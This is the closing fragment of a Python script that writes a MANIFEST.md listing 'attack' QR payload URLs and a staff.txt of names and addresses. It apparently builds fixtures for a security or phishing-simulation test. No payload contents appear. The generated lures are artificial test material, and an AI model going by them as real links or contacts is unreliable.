    L.append("\nQR payloads: " + "; ".join("attack/%s... -> `%s`" % (k, v) for k, v in sorted(QR_URLS.items())))
    with open(os.path.join(ROOT, "MANIFEST.md"), "w", encoding="utf-8") as f:
        f.write("\n".join(L) + "\n")
    with open(os.path.join(ROOT, "staff.txt"), "w", encoding="utf-8") as f:
        for k, n, a, role, off in STAFF:
            f.write("%s=%s\n" % (n, a))


if __name__ == "__main__":
    write_all()
    write_manifest()
